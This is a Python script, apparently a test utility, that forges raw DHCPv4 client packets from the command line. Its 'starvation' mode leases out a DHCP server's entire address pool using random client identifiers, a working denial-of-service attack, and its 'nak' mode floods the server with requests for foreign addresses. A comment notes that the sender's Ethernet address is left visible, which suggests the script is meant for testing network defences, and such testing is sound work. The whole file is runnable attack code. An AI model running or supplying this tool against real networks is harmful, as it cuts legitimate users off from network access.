"""Hand-made DHCPv4 clients, for what no client does on its own.

usage: forge.py PORT starvation COUNT | nak COUNT ADDRESS
"""
import os
import random
import select
import socket
import struct
import sys
import time

BROADCAST = b"\xff" * 6
DISCOVER, OFFER, REQUEST = 1, 2, 3


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def packet(source, client, xid, options):
    body = struct.pack(">BBBBIHH16x16s64x128x4s", 1, 1, 6, 0, xid, 0, 0x8000, client + bytes(10), b"\x63\x82\x53\x63") + options + b"\xff"
    body += bytes(max(0, 300 - len(body)))
    udp = struct.pack(">HHHH", 68, 67, 8 + len(body), 0) + body
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), random.getrandbits(16), 0, 64, 17, 0, bytes(4), b"\xff" * 4)
    ip = ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:]
    return BROADCAST + source + b"\x08\x00" + ip + udp


def option(code, data):
    return bytes((code, len(data))) + data


def answer(s, xid, seconds):
    """(type, offered address, server) of the answer to `xid`, if one comes."""
    end = time.monotonic() + seconds
    while (left := end - time.monotonic()) > 0:
        if select.select([s], [], [], left)[0]:
            data = s.recv(2048)
            if data[12:14] == b"\x08\x00" and data[23] == 17 and data[36:38] == b"\x00\x44" and data[46:50] == struct.pack(">I", xid):
                options, at = {}, 282
                while at + 1 < len(data) and data[at] != 255:
                    options[data[at]] = data[at + 2:at + 2 + data[at + 1]]
                    at += 2 + data[at + 1]
                return options.get(53, b"\0")[0], data[58:62], options.get(54, b"")
    return None


def main(port, what, count, *more):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    s.bind((port, 0))
    own = s.getsockname()[4]
    for number in range(int(count)):
        xid = random.getrandbits(32)
        if what == "starvation":
            # A new client each time, all from one machine: the Ethernet source is not hidden.
            client = b"\x02" + os.urandom(5)
            s.send(packet(own, client, xid, option(53, bytes([DISCOVER]))))
            offer = answer(s, xid, 0.4)
            if offer and offer[0] == OFFER:
                s.send(packet(own, client, xid, option(53, bytes([REQUEST])) + option(50, offer[1]) + option(54, offer[2])))
                answer(s, xid, 0.4)
        else:
            # INIT-REBOOT for an address that is not of this network.
            s.send(packet(own, own, xid, option(53, bytes([REQUEST])) + option(50, socket.inet_aton(more[0]))))
            answer(s, xid, 0.3)
        time.sleep(0.15)


main(*sys.argv[1:])
